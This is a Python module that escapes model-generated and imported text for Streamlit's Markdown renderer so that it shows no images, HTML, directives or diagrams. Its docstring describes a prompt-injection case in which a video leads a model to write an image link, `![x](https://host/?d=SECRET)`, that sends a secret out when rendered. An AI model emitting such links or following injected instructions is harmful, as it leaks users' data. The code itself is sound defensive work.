"""Model output and imported text are untrusted: shown, they read as written and fetch nothing.

A prompt injection in a video can ask the model to write `![x](https://host/?d=SECRET)`; rendered
as Markdown, the browser would fetch that URL at once. `safe_markdown` rewrites such text for
Streamlit's `st.markdown` (and `st.caption`, `st.info`, ...) so that it renders no image, no HTML
and nothing the browser fetches, while what the user sees reads as the model wrote it.

What Streamlit 1.67's renderer does to a Markdown string (read from its frontend bundle,
`StreamlitMarkdown.*.js`, and checked in Chromium by tests/e2e/test_markdown_in_browser.py):

- CommonMark and GFM (tables, strikethrough, footnotes, autolink literals); raw HTML is shown as
  text without `unsafe_allow_html`; images `![x](u)` become `<img>`: the one way to a fetch.
- Directives (remark-directive): `:name[label]{attrs}`, `::name` on a line, `:::name` blocks.
  Colours (`:red[…]`, `:blue-background[…]`, `:green-badge[…]`), `:small[…]`, `:shimmer[…]`,
  `:color[…]{foreground=…}` and `:help[…]` are styled; any other `:name` is put back as text
  without its label or attributes. So `background:red` lost ":red".
- `:material/icon:` becomes an icon (the text `:material/` is replaced in the whole source first,
  inside code too); `:streamlit:` becomes Streamlit's logo, an `<img>` with a data: URI; emoji
  shortcodes (`:smile:`) become emoji whenever the source holds any `:word:`, a time included
  (`1:15:10`). These three match the rendered text, where escapes are already gone.
- `$…$` and `$$…$$` are KaTeX math when the source holds a pair that Pandoc would call math.
- A fenced code block whose language is `mermaid` is drawn as a diagram, in an `<img>`.
- ` -> `, ` <= `, ` -- ` and friends become arrows and dashes (left alone here: they read the
  same); links open in a new tab and `javascript:` links are disarmed by Streamlit itself.

So, outside code (code spans and blocks are left byte for byte):

- an image becomes the link it contains: `![x](u)` -> `[x](u)` (no stray "!"); an `![` that
  opens no image keeps its "!" through an escape that renders as "!";
- every `<` that could open an HTML tag is escaped;
- a colon that could start a directive is escaped (`\\:` renders ":"); `:material/` gets its
  slash escaped; a `:word:` that could be a shortcode, the logo or an icon (a word with a
  letter in it, and `+1`, `-1`, `100`, `1234`) gets an invisible word joiner after its first
  colon; times like `1:15:10` are left as they are;
- a `$` that is not part of a math pair is escaped, so "$5 and $6" stays money; a backtick
  that opens no code span is escaped, so it cannot pair with one the page adds next to it;
- a `mermaid` fence is shown as a code block (its language becomes `text`).

The one thing left as Streamlit shows it: `:material/` inside code reads `:material_` (Streamlit
rewrites the source before parsing it, and code cannot be changed to prevent it).

Where code is comes from markdown-it-py with the extensions Streamlit's renderer has (tables,
footnotes, `$` math), and a scanner that follows CommonMark's rules for backslash escapes, code
spans and autolinks. Which `![` open images is read from markdown-it's parse of the rewritten
text. Should the result still hold an image, HTML or a diagram (the two views disagreed), the
text is escaped without regard for code, and failing that, shown as a code block.
"""

from __future__ import annotations

import html
import itertools
import re
from functools import cache, lru_cache

from markdown_it import MarkdownIt
from markdown_it.token import Token
from mdit_py_plugins.dollarmath import dollarmath_plugin
from mdit_py_plugins.footnote import footnote_plugin

WORD_JOINER = "\u2060"  # invisible; breaks a pattern Streamlit matches in the rendered text

_SPECIAL = re.compile(r"[\\`$!<:|]|(?i:https?://|www\.)(?=[\w-])")
_ASCII_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
# What follows the colon that opens an emoji code (remark-emoji: `:[\w+-]+:`) or an icon code
# (`:material/name:`): a name, then the closing colon.
_OPENS_CODE = re.compile(r"[\w+-][\w+/-]*:")
_ASCII_LETTERS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz")
# CommonMark autolinks, kept as they are: no escapes are processed inside them.
_AUTOLINK = re.compile(
    r"<(?:[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*"
    r"|[A-Za-z0-9.!#$%&'*+/=?^_`{|}~\-]+@[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?"
    r"(?:\.[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?)*)>"
)
_TAG_START = re.compile(r"<[A-Za-z/!?]")
# A GFM autolink literal runs to whitespace or "<". micromark starts one at "http" after
# anything but a letter, and at "www." only after these (or whitespace).
_URL_END = re.compile(r"[\s<\ufeff]")
# Ends a GFM autolink literal (JavaScript's \s holds it) and shows nothing: put between a link
# and the "<" after it, it keeps the escape of that "<" out of the link.
_ZERO_WIDTH_SPACE = "\ufeff"
_WWW_MAY_FOLLOW = re.compile(r"[\s(\[\]*_~]").match
# Matched by Streamlit in the rendered text, so escapes cannot stop them: broken by a joiner.
_TEXT_PATTERN = re.compile(r"streamlit:|material_\w+:", re.ASCII)
# After a colon: a name remark-emoji could know (every one has a letter, but for these four).
_SHORTCODE = re.compile(r"(?:[\w-]*[A-Za-z][\w-]*|\+1|-1|100|1234):", re.ASCII)
_MERMAID = re.compile(r"\w+", re.ASCII)
_FENCE_LINE = re.compile(r"^(.*?(?:`{3,}|~{3,}))(.*?)(\r?\n?)$", re.DOTALL)
_OPENER = re.compile(r"(\\*)(?:!\[|<[A-Za-z/!?])")
_CODE_BLOCKS = frozenset({"fence", "code_block"})
_MATH_BLOCKS = frozenset({"math_block", "math_block_label"})
_UNSAFE_TOKENS = frozenset({"image", "html_inline", "html_block"})
_MARKER_BASE = 0xF0000  # Supplementary Private Use Area-A: one marker per image opener
_MARKER_COUNT = 0xFFFE
_MARKER = re.compile("[\U000f0000-\U000ffffd]")
_ACTIVE = re.compile(r"[!<:$|]|mermaid", re.IGNORECASE)


@lru_cache(maxsize=32)  # a page repaints the same answer many times
def safe_markdown(text: str) -> str:
    """`text` as Markdown that renders no image, HTML or diagram, and reads as written."""
    return _safe(text, inline=False)


def safe_inline(text: str) -> str:
    """`text` for one line of Markdown (a caption, a label, a header): whitespace collapsed,
    so nothing the text holds can open a block (a heading, a list, a quote, a table, a fence)."""
    line = " ".join(str(text).split())
    if _BLOCK_START.match(line):
        line = "\\" + line
    elif _ORDERED_ITEM.match(line):
        line = _ORDERED_ITEM.sub(r"\1\\\2", line, count=1)
    return _safe(line, inline=True)


def plot_text(text: str) -> str:
    """`text` for a Plotly label or hover: Plotly reads a subset of HTML (links, styles), so
    every markup character is escaped; line breaks become Plotly's own `<br>`."""
    lines = str(text).replace("\r\n", "\n").replace("\r", "\n").split("\n")
    return "<br>".join(html.escape(line, quote=True) for line in lines)


def renders_unsafe(markdown: str) -> bool:
    """Whether `markdown` would render an image, raw HTML or a diagram (CommonMark + GFM)."""
    return _renders_unsafe(markdown.replace("\r\n", "\n").replace("\r", "\n"))


# What opens a block at the start of a line: a list item, a heading, a quote, a thematic break,
# a fence, an HTML block.
_BLOCK_START = re.compile(r"[-+*](?=\s|$)|#{1,6}(?=\s|$)|>|(?:[-*_] *){3,}$|`{3}|~{3}|<")
_ORDERED_ITEM = re.compile(r"^(\d{1,9})([.)])(?=\s|$)")


@lru_cache(maxsize=64)
def _safe(text: str, *, inline: bool) -> str:
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    if not _ACTIVE.search(text):
        return text  # nothing Streamlit would render as anything but text
    marked, markers = _escape(text, respect_code=True, inline=inline)
    safe = _resolve_images(marked, markers)
    if safe is not None:
        return safe
    safe, _ = _escape(text, respect_code=False, inline=inline)
    if not _renders_unsafe(safe):
        return safe
    fence = "~" * max(3, _longest_run(text, "~") + 1)
    return f"{fence}text\n{text}\n{fence}\n"


class _Markers:
    """Stand-ins for the "!" of each `![`: distinct characters the text does not hold, so the
    parse of the marked text says which of them opened an image (a link follows the marker).
    Without them (the text holds such characters, or in the fallback) each "!" is escaped."""

    def __init__(self, usable: bool) -> None:
        self.usable = usable
        self.count = 0

    def next(self) -> str:
        if not self.usable or self.count >= _MARKER_COUNT:
            return "\\!"
        self.count += 1
        return chr(_MARKER_BASE + self.count - 1)

    def index(self, char: str) -> int:
        return ord(char) - _MARKER_BASE


def _resolve_images(marked: str, markers: _Markers) -> str | None:
    """The marked text with each marker dropped (its `![` opened an image, now a link) or
    turned back into an escaped "!"; None when the result would still render unsafely."""
    if markers.count == 0:
        return None if _has_opener(marked) and _renders_unsafe(marked) else marked
    env: dict = {}
    blocks = _block_parser().parse(marked, env)
    if any(_unsafe(token) for token in blocks):
        return None
    # Only paragraphs with a marker, or with an opener left in code or math, are parsed inline;
    # each once, as an answer streams in (a paragraph's markers never change as text is added).
    every = _has_opener(_MARKER.sub("", marked))
    defined = env.get("references", {})
    references = tuple(sorted((label, r["href"], r["title"]) for label, r in defined.items()))
    opened: set[int] = set()
    for token in blocks:
        if token.type == "inline" and (every or _MARKER.search(token.content)):
            found = _inline_images(token.content, references)
            if found is None:
                return None
            opened |= found

    def resolve(match: re.Match[str]) -> str:
        before = marked[match.start() - 1 : match.start()]
        # the image is now the link it held; a "!" or "]" before it would rejoin it
        dropped = markers.index(match.group()) in opened and before not in ("!", "]")
        return "" if dropped else "\\!"

    return _MARKER.sub(resolve, marked)


@lru_cache(maxsize=512)
def _inline_images(
    content: str, references: tuple[tuple[str, str, str], ...]
) -> frozenset[int] | None:
    """The markers in one paragraph that a link follows (their `![` were images); None when
    the paragraph renders an image or HTML anyway. `references`: (label, href, title)."""
    env = {"references": {label: {"href": h, "title": t} for label, h, t in references}}
    children = _parser().parseInline(content, env)[0].children or []
    if any(_unsafe(child) for child in children):
        return None
    opened = set()
    for child, following in itertools.pairwise(children):
        last = child.content[-1:] if child.type == "text" else ""
        if following.type == "link_open" and last and _MARKER.match(last):
            opened.add(ord(last) - _MARKER_BASE)
    return frozenset(opened)


@cache
def _parser() -> MarkdownIt:
    return _configure(MarkdownIt("commonmark", {"html": True}))


def _configure(md: MarkdownIt) -> MarkdownIt:
    """The Markdown Streamlit renders: CommonMark, GFM tables, strikethrough and footnotes, math."""
    md.enable(["table", "strikethrough"])
    return md.use(footnote_plugin).use(dollarmath_plugin, double_inline=True)


@cache
def _block_parser() -> MarkdownIt:
    """The same grammar, blocks only: where code is, without the cost of inline parsing."""
    return _configure(MarkdownIt("commonmark", {"html": True})).disable("inline")


def _renders_unsafe(markdown: str) -> bool:
    return any(_unsafe(token) for token in _parser().parse(markdown))


def _has_opener(markdown: str) -> bool:
    """Whether any unescaped `![` or tag start is left (in code, math or autolinks): only then
    can the full parse that checks the result find something, so only then is it worth its cost."""
    return any(len(m.group(1)) % 2 == 0 for m in _OPENER.finditer(markdown))


def _unsafe(token: Token) -> bool:
    if token.type in _UNSAFE_TOKENS or (token.type == "fence" and _is_mermaid(token.info)):
        return True
    return any(_unsafe(child) for child in token.children or ())


def _is_mermaid(info: str) -> bool:
    """Streamlit draws a fence as a diagram when its language's leading word is mermaid."""
    words = info.split()
    word = _MERMAID.match(words[0]) if words else None
    return word is not None and word.group().lower() == "mermaid"


def _escape(text: str, *, respect_code: bool, inline: bool) -> tuple[str, _Markers]:
    """The text rewritten line by line, image openers outside code replaced by markers."""
    clash = respect_code and _MARKER.search(text) is not None
    markers = _Markers(usable=respect_code and not clash)
    lines = text.splitlines(keepends=True)
    if respect_code:
        roles, units, mermaid = _structure(text, len(lines))
    else:
        roles, units, mermaid = ["text"] * len(lines), {}, set()
    scanner = _Scanner(markers, inline=inline)
    out: list[str] = []
    index = 0
    while index < len(lines):
        role = roles[index]
        if role == "code":
            line = lines[index]
            out.append(_plain_fence(line) if index in mermaid else line)
            index += 1
        elif role == "math":
            out.append(_escape_images(lines[index]))
            index += 1
        else:
            end = units.get(index, index + 1)
            if any(r != "text" for r in roles[index:end]):
                end = index + 1
            out.append(scanner.scan("".join(lines[index:end])))
            index = end
    return "".join(out), markers


def _structure(text: str, count: int) -> tuple[list[str], dict[int, int], set[int]]:
    """Each line's role, "code" (left alone), "math" (images escaped) or "text" (scanned); the
    first line -> end line of each block whose inline content is one run of text, since a
    code span cannot reach from one paragraph into the next; and the opening lines of mermaid
    fences."""
    roles = ["text"] * count
    units: dict[int, int] = {}
    mermaid: set[int] = set()
    for token in _block_parser().parse(text):
        if not token.map:
            continue
        first, end = token.map[0], min(token.map[1], count)
        if token.type in _CODE_BLOCKS or token.type in _MATH_BLOCKS:
            role = "code" if token.type in _CODE_BLOCKS else "math"
            roles[first:end] = [role] * (end - first)
            if token.type == "fence" and _is_mermaid(token.info):
                mermaid.add(first)
        elif token.type == "inline" and end > first + 1:
            units[first] = end
    return roles, units, mermaid


def _plain_fence(line: str) -> str:
    """A fence's opening line with its language replaced by `text`: shown as code, not drawn."""
    match = _FENCE_LINE.match(line)
    return f"{match.group(1)}text{match.group(3)}" if match else line


class _Scanner:
    """Rewrites one run of inline text; leaves escapes, code spans, math and autolinks be."""

    def __init__(self, markers: _Markers, *, inline: bool) -> None:
        self._markers = markers
        self._inline = inline

    def scan(self, text: str) -> str:
        out: list[str] = []
        pos = 0
        while (match := _SPECIAL.search(text, pos)) is not None:
            start = match.start()
            out.append(text[pos:start])
            pos = self._special(text, start, match.group(), out)
        out.append(text[pos:])
        return "".join(out)

    def _special(self, text: str, start: int, found: str, out: list[str]) -> int:
        """Writes what the special character at `start` becomes; returns where to go on."""
        char = found[0]
        if len(found) > 1:
            return self._url(text, start, out)
        if char == "\\":
            end = start + (2 if text[start + 1 : start + 2] in _ASCII_PUNCTUATION else 1)
            out.append(text[start:end])
            return end
        if char == "`":
            return _code_span(text, start, out)
        if char == "$":
            return _dollar(text, start, out)
        if char == "!":
            out.append(self._markers.next() if text.startswith("[", start + 1) else "!")
            return start + 1
        if char == "<":
            return _angle(text, start, out)
        if char == "|":
            out.append("\\|" if self._inline else "|")
            return start + 1
        return self._colon(text, start, out)

    def _colon(self, text: str, start: int, out: list[str]) -> int:
        ahead = text[start + 1 :]
        if _SHORTCODE.match(ahead):
            out.append(":" + WORD_JOINER)
        elif ahead.startswith("material/"):
            out.append("\\:material\\/")
            return start + len(":material/")
        elif text[start - 1 : start] == "]":
            out.append(":")  # a link reference definition, `[label]: url`, stays one
        elif ahead[:1] in _ASCII_LETTERS:
            out.append("\\:")
        else:
            out.append(":")
        return start + 1

    def _url(self, text: str, start: int, out: list[str]) -> int:
        """A GFM autolink literal is taken as it is written (an escape would show, and change
        the link); only image openers and the patterns matched in rendered text are broken."""
        before = text[start - 1 : start]
        www = text[start] in "wW"
        if before and (before in _ASCII_LETTERS if not www else not _WWW_MAY_FOLLOW(before)):
            out.append(text[start])
            return start + 1
        end_match = _URL_END.search(text, start)
        end = end_match.start() if end_match else len(text)
        url = text[start:end]
        url = re.sub(r"!(?=\[)", lambda _: self._markers.next(), url)
        out.append(re.sub(r":(?=streamlit:|material_\w+:)", ":" + WORD_JOINER, url))
        if text.startswith("<", end) and not _AUTOLINK.match(text, end):
            out.append(_ZERO_WIDTH_SPACE)
        return end


def _angle(text: str, start: int, out: list[str]) -> int:
    autolink = _AUTOLINK.match(text, start)
    if autolink:
        out.append(autolink.group())
        return autolink.end()
    out.append("\\<" if _TAG_START.match(text, start) else "<")
    return start + 1


def _code_span(text: str, start: int, out: list[str]) -> int:
    """A code span opening at `start`, copied as it is; returns its end.

    As in CommonMark, it closes at the next run of exactly as many backticks; with none, the
    run is literal text, and escaped, so it cannot pair with a backtick the page puts after it
    (a caption joining two labels, say).
    """
    run_end = _run_end(text, start, "`")
    close_end = _closing_run(text, run_end, "`", run_end - start)
    if close_end is None:
        out.append("\\`" * (run_end - start))
        return run_end
    out.append(text[start:close_end])
    return close_end


def _dollar(text: str, start: int, out: list[str]) -> int:
    """Math as Streamlit takes it, copied with its images escaped (in case the renderer does not
    take it for math); any other `$` escaped, so it stays a dollar sign."""
    end = _math_end(text, start)
    if end is None:
        run_end = _run_end(text, start, "$")
        out.append("\\$" * (run_end - start))
        return run_end
    out.append(_escape_images(text[start:end]))
    return end


def _math_end(text: str, start: int) -> int | None:
    """The end of the math span opening at `start`, or None when it opens none.

    `$$…$$` (or longer runs) is math; a single `$` only as Pandoc (and Streamlit's check for
    math) has it: no space after the opening `$`, none before the closing one on the same
    line, and no digit after it. So "$5 and $6" is two dollar signs.
    """
    run_end = _run_end(text, start, "$")
    if run_end - start > 1:
        return _closing_run(text, run_end, "$", run_end - start)
    close = text.find("$", start + 1)
    if close == -1 or text[start + 1].isspace() or close == start + 1:
        return None
    if "\n" in text[start:close] or text[close - 1].isspace():
        return None
    if text[close + 1 : close + 2].isdigit() or text[close + 1 : close + 2] == "$":
        return None
    return close + 1


def _run_end(text: str, start: int, char: str) -> int:
    end = start
    while end < len(text) and text[end] == char:
        end += 1
    return end


def _closing_run(text: str, search: int, char: str, length: int) -> int | None:
    """The end of the next run of exactly `length` of `char` from `search`, or None."""
    while (close := text.find(char * length, search)) != -1:
        close_end = _run_end(text, close, char)
        if close_end - close == length:
            return close_end
        search = close_end
    return None


def _escape_images(text: str) -> str:
    """Escape every `![` whose `!` is not already escaped (odd run of backslashes before it)."""
    out: list[str] = []
    pos = 0
    for match in re.finditer(r"(\\*)!\[", text):
        out.append(text[pos : match.start()])
        backslashes = match.group(1)
        out.append(backslashes + ("!" if len(backslashes) % 2 else "\\!") + "[")
        pos = match.end()
    out.append(text[pos:])
    return "".join(out)


def _longest_run(text: str, char: str) -> int:
    runs = re.findall(f"{re.escape(char)}+", text)
    return max((len(r) for r in runs), default=0)


def literal(text: str) -> str:
    """`text` as Markdown that shows exactly its characters, on one line: every ASCII
    punctuation character is backslash-escaped (CommonMark allows it for each), so nothing in
    it can open or close any syntax (emphasis, links, images, code, math, HTML, entities,
    Streamlit's `:color[…]` directives and `:icon:` codes). For untrusted words placed inside
    Markdown the app writes, such as a diff's `:red-background[…]`."""
    line = " ".join(str(text).split())
    # Escapes are resolved before Streamlit looks for `:streamlit:`-style codes in the text: a
    # colon that opens one (`:smile:`, `:100:`, `:+1:`, `:material/star:`) also gets an
    # (invisible) word joiner, so no code can form. Other colons get none: one inside a bare
    # URL (`host:9/x`) would end up in the link GFM makes of it.
    out = []
    for index, char in enumerate(line):
        if char in _ASCII_PUNCTUATION:
            out.append("\\" + char)
            if char == ":" and _OPENS_CODE.match(line, index + 1):
                out.append(WORD_JOINER)
        else:
            out.append(char)
    return "".join(out)
